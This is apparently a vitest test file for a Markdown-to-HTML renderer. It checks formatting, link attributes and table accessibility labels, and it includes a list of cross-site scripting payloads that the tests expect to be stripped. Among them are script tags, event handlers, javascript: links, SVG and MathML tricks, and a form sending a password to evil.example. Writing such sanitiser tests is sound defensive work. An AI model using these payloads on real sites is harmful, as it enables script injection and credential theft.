import { describe, expect, test } from 'vitest'
import { renderMarkdown } from './html.ts'

test('Markdown becomes the tags that lessons and guides may have', () => {
  const html = renderMarkdown(
    '# One\n## Two\n##### Five\n\nA **b** _c_ `d`[^1]\n\n- x\n1. y\n\n> q\n\n---\n\n```bash\nls <dir>\n```\n',
  )
  expect(html).toContain(
    '<h2 id="text-one">One</h2>\n<h2 id="text-two">Two</h2>\n<h4 id="text-five">Five</h4>',
  )
  expect(html).toContain('<strong>b</strong> <em>c</em> <code>d</code>')
  expect(html).toContain('<ul>\n<li>x</li>\n</ul>\n<ol>\n<li>y</li>\n</ol>')
  expect(html).toContain('<blockquote>\n<p>q</p>\n</blockquote>\n<hr />')
  expect(html).toContain('<pre><code class="language-bash">ls &lt;dir&gt;\n</code></pre>')
})

test('a list continues with the given number', () => {
  expect(renderMarkdown('4. four\n5. five\n')).toBe(
    '<ol start="4">\n<li>four</li>\n<li>five</li>\n</ol>',
  )
  expect(renderMarkdown('<ol start="x&quot; onclick=1"><li>one</li></ol>')).toBe(
    '<ol><li>one</li></ol>',
  )
})

test('struck out words and boxes of a list are shown', () => {
  expect(renderMarkdown('- [x] one\n- [ ] ~~two~~\n')).toBe(
    '<ul>\n<li>☑ one</li>\n<li>☐ <del>two</del></li>\n</ul>',
  )
})

test('links to other sites do not pass on the address of this one', () => {
  expect(
    renderMarkdown('[docs](https://example.org/a?b=1&c=2 "title") <https://example.org>'),
  ).toBe(
    '<p><a href="https://example.org/a?b=1&amp;c=2" rel="noopener noreferrer">docs</a> <a href="https://example.org" rel="noopener noreferrer">https://example.org</a></p>',
  )
})

test('each table scrolls in its own named region', () => {
  const html = renderMarkdown(
    '| a | b |\n|:-:|--:|\n| 1 | `<table>` |\n\ntext\n\n| c |\n|---|\n| 2 |\n',
  )
  expect(html).toContain(
    '<div class="table-scroll" tabindex="0" role="region" aria-label="Table"><table>\n<thead>\n<tr>\n<th>a</th>\n<th>b</th>',
  )
  expect(html).toContain('<td><code>&lt;table&gt;</code></td>')
  expect(html).toContain('aria-label="Table (2)"><table>')
  expect(html.match(/<\/table><\/div>/g)).toHaveLength(2)
})

test('a table is named by the heading above it, in words of the text', () => {
  const table = '| a |\n|---|\n| 1 |\n\n'
  const html = renderMarkdown(
    `${table}## مفاتيح *الوصول*\n\n${table}text\n\n${table}### \`$A\` & "B" <b>C</b>\n\n${table}## " onfocus="alert(1)\n\n${table}`,
  )
  expect([...html.matchAll(/aria-label="([^"]*)"/g)].map(([, label]) => label)).toEqual([
    'Table',
    'مفاتيح الوصول',
    'مفاتيح الوصول (2)',
    '$A &amp; &quot;B&quot; C',
    '&quot; onfocus=&quot;alert(1)',
  ])
})

describe('hostile Markdown', () => {
  const hostile: [what: string, markdown: string][] = [
    ['a script', '<script>alert(1)</script>'],
    ['a script split in two', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
    ['a script in a heading', '# <script src=//evil.example/x.js></script>'],
    ['an event handler', '<p onclick="alert(1)" onerror=alert(1)>x</p>'],
    ['an image with a handler', '<img src=x onerror=alert(1)>'],
    ['a javascript link', '[x](javascript:alert(1))'],
    ['a javascript link in capitals with entities', '[x](JaVaScRiPt&#58;alert(1))'],
    ['a javascript link with a tab', '<a href="java\tscript:alert(1)">x</a>'],
    ['a javascript link with a control character', '<a href="\u0001javascript:alert(1)">x</a>'],
    ['a data link', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
    ['a vbscript link', '<a href="vbscript:msgbox(1)">x</a>'],
    ['a link without scheme', '[x](//evil.example)'],
    ['a relative link', '[x](/profile)'],
    ['an automatic javascript link', '<javascript:alert(1)>'],
    [
      'an svg',
      '<svg onload=alert(1)><animate href="#x" values="javascript:alert(1)"/><style>*{}</style></svg>',
    ],
    [
      'MathML',
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    ],
    ['a style attribute', '<p style="background:url(https://evil.example)">x</p>'],
    ['a style element', '<style>@import "https://evil.example";</style>'],
    [
      'an iframe',
      '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
    ],
    ['a comment', '<!-- <script>alert(1)</script> -->\n\n<!--> <img src=x onerror=alert(1)> -->'],
    [
      'a form',
      '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
    ],
    [
      'base, meta and link',
      '<base href="https://evil.example"><meta http-equiv=refresh content="0;url=javascript:alert(1)"><link rel=stylesheet href=x>',
    ],
    [
      'a noscript trick',
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>">x</p></noscript>',
    ],
    [
      'a textarea trick',
      '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    ],
    ['a quote out of a code class', '```x"onmouseover="alert(1)\ncode\n```'],
    [
      'broken nesting',
      '<table><tr><td><strong><a href="https://example.org"><table><b></td></a><script>alert(1)',
    ],
    [
      'a template',
      '<template><img src=x onerror=alert(1)></template><object data="javascript:alert(1)"></object><embed src=x>',
    ],
    ['CDATA and instructions', '<![CDATA[<img src=x onerror=alert(1)>]]><?php echo 1 ?>'],
  ]

  test.each(hostile)('%s', (_what, markdown) => {
    const html = renderMarkdown(markdown)
    const tags = [...html.matchAll(/<(\/?)([a-z0-9]+)([^>]*)>/gi)]
    // Only known tags, each with the attributes that this renderer writes.
    expect(html.replace(/<\/?[a-z0-9]+[^<>]*>/g, '')).not.toMatch(/[<>]/)
    for (const [, , name, attributes] of tags) {
      expect(name).toMatch(
        /^(p|h[234]|ul|ol|li|strong|em|code|pre|blockquote|a|hr|br|table|thead|tbody|tr|th|td|div)$/,
      )
      expect(attributes).toMatch(
        /^(| \/| id="text-[^"]+"| href="https?:\/\/[^"]*" rel="noopener noreferrer"| class="language-[^"]*"| class="table-scroll" tabindex="0" role="region" aria-label="Table(?: \(\d+\))?")$/,
      )
    }
    expect(html).not.toMatch(/<[^>]*(javascript|data|vbscript):/i)
  })

  test('broken tags are closed', () => {
    const html = renderMarkdown(
      '<table><tr><td><table><tr><td>x</td>\n\n</table></table></table> y',
    )
    const count = (pattern: RegExp) => html.match(pattern)?.length ?? 0
    for (const tag of ['div', 'table', 'tr', 'td'])
      expect(count(new RegExp(`<${tag}[ >]`, 'g'))).toBe(count(new RegExp(`</${tag}>`, 'g')))
  })
})
